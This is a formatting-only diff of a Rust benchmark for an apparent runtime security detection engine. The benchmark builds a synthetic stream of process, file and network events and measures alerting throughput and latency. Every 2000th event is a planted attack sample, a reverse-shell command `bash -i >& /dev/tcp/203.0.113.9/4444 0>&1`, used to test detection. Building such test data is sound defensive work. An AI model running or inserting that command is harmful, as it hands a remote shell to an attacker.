@@ -14,7 +14,12 @@ use std::sync::Arc;
 use std::time::Instant;
 
 fn path(p: &str) -> FilePath {
-    FilePath { path: p.into(), host_path: None, resolution: Resolution::Kernel, raw: None }
+    FilePath {
+        path: p.into(),
+        host_path: None,
+        resolution: Resolution::Kernel,
+        raw: None,
+    }
 }
 
 /// A deterministic pseudo-random stream: writes (logs, caches, build outputs),
@@ -23,8 +28,33 @@ fn path(p: &str) -> FilePath {
 fn stream(n: usize) -> Vec<Event> {
     let mut out = Vec::with_capacity(n);
     let mut x: u64 = 0x2545_f491_4f6c_dd1d;
-    let comms = ["nginx", "python3", "node", "java", "bash", "cargo", "rustc", "cc1", "ld", "git", "ssh", "systemd", "postgres", "redis-server", "sh", "make"];
-    let files = ["/var/log/nginx/access.log", "/home/alice/project/target/debug/deps/libx.rlib", "/tmp/tmp.a1b2c3", "/var/lib/postgresql/15/main/base/1/2619", "/home/alice/.cache/pip/http/x", "/run/user/1000/bus", "/var/cache/apt/pkgcache.bin"];
+    let comms = [
+        "nginx",
+        "python3",
+        "node",
+        "java",
+        "bash",
+        "cargo",
+        "rustc",
+        "cc1",
+        "ld",
+        "git",
+        "ssh",
+        "systemd",
+        "postgres",
+        "redis-server",
+        "sh",
+        "make",
+    ];
+    let files = [
+        "/var/log/nginx/access.log",
+        "/home/alice/project/target/debug/deps/libx.rlib",
+        "/tmp/tmp.a1b2c3",
+        "/var/lib/postgresql/15/main/base/1/2619",
+        "/home/alice/.cache/pip/http/x",
+        "/run/user/1000/bus",
+        "/var/cache/apt/pkgcache.bin",
+    ];
     for i in 0..n {
         x ^= x << 13;
         x ^= x >> 7;
@@ -34,7 +64,11 @@ fn stream(n: usize) -> Vec<Event> {
         let mut ev = if i % 2000 == 1999 {
             // An attack: a reverse shell spawned by nginx in a container.
             let mut e = sample(EventKind::Exec);
-            e.process.args = vec!["bash".into(), "-c".into(), "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".into()];
+            e.process.args = vec![
+                "bash".into(),
+                "-c".into(),
+                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".into(),
+            ];
             e
         } else {
             let kind = match r {
@@ -51,32 +85,55 @@ fn stream(n: usize) -> Vec<Event> {
                 _ => EventKind::Mkdir,
             };
             let mut e = sample(kind);
-            e.container = if r % 3 == 0 && !matches!(comm, "bash" | "sh" | "ssh") { e.container } else { None };
+            e.container = if r.is_multiple_of(3) && !matches!(comm, "bash" | "sh" | "ssh") {
+                e.container
+            } else {
+                None
+            };
             e.process.comm = comm.into();
             e.process.args = vec![comm.into(), "--serve".into(), format!("/srv/app{}", r % 7)];
             e.process.exe = Some(format!("/usr/bin/{comm}"));
             e.process.ancestors.truncate(1);
-            e.process.ancestors[0].name = if r % 2 == 0 { "systemd".into() } else { "bash".into() };
+            e.process.ancestors[0].name = if r.is_multiple_of(2) {
+                "systemd".into()
+            } else {
+                "bash".into()
+            };
             e.process.uid = 1000;
-            e.process.tty = if r % 5 == 0 { 34816 } else { 0 };
+            e.process.tty = if r.is_multiple_of(5) { 34816 } else { 0 };
             match &mut e.data {
-                EventData::Open { path: p, flags, flag_names, .. } => {
+                EventData::Open {
+                    path: p,
+                    flags,
+                    flag_names,
+                    ..
+                } => {
                     *p = path(files[(x >> 33) as usize % files.len()]);
                     *flags = 0o2101;
                     *flag_names = vec!["O_WRONLY".into(), "O_CREAT".into(), "O_APPEND".into()];
                 }
-                EventData::Exec { filename, argv, stdio, .. } => {
+                EventData::Exec {
+                    filename,
+                    argv,
+                    stdio,
+                    ..
+                } => {
                     *filename = path(&format!("/usr/bin/{comm}"));
                     *argv = e.process.args.clone();
                     *stdio = [garrison_event::FdType::CharDevice; 3];
                 }
-                EventData::Connect { remote, protocol, .. } => {
+                EventData::Connect {
+                    remote, protocol, ..
+                } => {
                     let c = ["nginx", "python3", "node", "java", "postgres", "git"][r % 6];
                     e.process.comm = c.into();
                     e.process.exe = Some(format!("/usr/bin/{c}"));
                     e.container = None;
                     *protocol = Protocol::Tcp;
-                    *remote = SockAddr::Inet { ip: IpAddr::V4(Ipv4Addr::new(93, 184, (r % 200) as u8, 34)), port: [443, 80, 5432, 6379][r % 4] };
+                    *remote = SockAddr::Inet {
+                        ip: IpAddr::V4(Ipv4Addr::new(93, 184, (r % 200) as u8, 34)),
+                        port: [443, 80, 5432, 6379][r % 4],
+                    };
                 }
                 EventData::Dns { query, .. } => *query = format!("api{}.example.com", r % 13),
                 EventData::Unlink { path: p, .. } => *p = path("/tmp/tmp.x1/partial"),
@@ -88,7 +145,9 @@ fn stream(n: usize) -> Vec<Event> {
                     *p = path("/home/alice/project/target/debug/app");
                     *mode = 0o755;
                 }
-                EventData::Mkdir { path: p, .. } => *p = path("/home/alice/project/target/debug/build/x"),
+                EventData::Mkdir { path: p, .. } => {
+                    *p = path("/home/alice/project/target/debug/build/x")
+                }
                 _ => {}
             }
             e
@@ -119,7 +178,10 @@ fn pct(sorted: &[u64], p: f64) -> u64 {
 fn main() {
     let args: Vec<String> = std::env::args().collect();
     let dir = args.get(1).cloned().unwrap_or_else(|| "rules".into());
-    let n: usize = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(1_000_000);
+    let n: usize = args
+        .get(2)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(1_000_000);
     let t = Instant::now();
     let set = match RuleSet::load_paths(&[dir.clone().into()], LoadOptions::default()) {
         Ok(s) => s,
@@ -190,7 +252,10 @@ fn main() {
     alerting.sort_unstable();
 
     // The worker pool (2 workers), full path including alert building.
-    let workers = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1).min(4);
+    let workers = std::thread::available_parallelism()
+        .map(|n| n.get())
+        .unwrap_or(1)
+        .min(4);
     let (tx, rx) = std::sync::mpsc::sync_channel(1 << 16);
     let drain = std::thread::spawn(move || rx.iter().count());
     let t = Instant::now();
@@ -211,7 +276,17 @@ fn main() {
         cpu_secs * 1e9 / n as f64,
         n as f64 / secs / 1e6
     );
-    println!("latency event->alert (all events, 500k): p50 {} ns, p99 {} ns, max {} ns", pct(&all, 0.5), pct(&all, 0.99), all.last().copied().unwrap_or(0));
-    println!("latency event->alert (events that alert: {}, {alerts} alerts): p50 {} ns, p99 {} ns", alerting.len(), pct(&alerting, 0.5), pct(&alerting, 0.99));
+    println!(
+        "latency event->alert (all events, 500k): p50 {} ns, p99 {} ns, max {} ns",
+        pct(&all, 0.5),
+        pct(&all, 0.99),
+        all.last().copied().unwrap_or(0)
+    );
+    println!(
+        "latency event->alert (events that alert: {}, {alerts} alerts): p50 {} ns, p99 {} ns",
+        alerting.len(),
+        pct(&alerting, 0.5),
+        pct(&alerting, 0.99)
+    );
     println!("pool of {workers} workers incl. clone + channel + alert building: {:.2} M events/s, {pool_alerts} alerts", n as f64 / pool_secs / 1e6);
 }
